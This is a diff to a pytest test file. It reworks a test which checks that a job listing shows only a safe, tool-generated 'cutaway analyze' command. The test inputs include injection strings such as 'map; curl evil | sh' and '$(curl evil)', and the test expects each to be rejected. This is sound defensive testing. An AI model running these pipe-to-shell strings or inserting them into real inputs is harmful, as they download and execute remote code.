@@ -13,6 +13,7 @@ from unicodedata import category
 import pytest
 
 from cutaway.run import Run
+from cutaway.run.command_words import run_word
 from cutaway.run.documents import write_document
 from cutaway.run.jobs import JobProgress, write_progress
 from cutaway.run.process import this_process
@@ -69,17 +70,20 @@ class TestAFolderOfSomebodyElse:
     @pytest.mark.parametrize(
         ("told", "shown"),
         [
-            ("cutaway analyze 'my run' map --evaluation 0", "cutaway analyze 'my run' map --evaluation 0"),
-            ("cutaway analyze x; curl evil | sh", ""),
-            ("cutaway analyze $(curl evil)", ""),
-            ("cutaway analyze 'x", ""),
-            ("curl evil", ""),
+            ({"what": "class distances"}, " class-distances --evaluation 0"),
+            ({"what": ""}, " --evaluation 0"),
+            ({"what": "map", "command": "curl evil | sh"}, " map --evaluation 0"),
+            ({"what": "map; curl evil | sh"}, ""),
+            ({"what": "$(curl evil)"}, ""),
+            ({"what": "map", "evaluation": "zero"}, ""),
         ],
     )
-    def test_a_command_to_copy_is_one_of_ours(self, asked: Asked, run: Run, told: str, shown: str) -> None:
-        _write(run, command=told)
+    def test_a_command_to_copy_is_one_of_ours(
+        self, asked: Asked, run: Run, told: dict[str, object], shown: str
+    ) -> None:
+        _write(run, **{"evaluation": 0, **told})
         [row] = asked.client.get("/api/jobs").json()["data"]
-        assert row["command"] == shown
+        assert row["command"] == (f"cutaway analyze {run_word(run.path)}{shown}" if shown else "")
 
     def test_one_from_the_future_keeps_nobody_from_starting_the_same(self, asked: Asked, run: Run) -> None:
         _write(run, created=time.time() + 1e9)
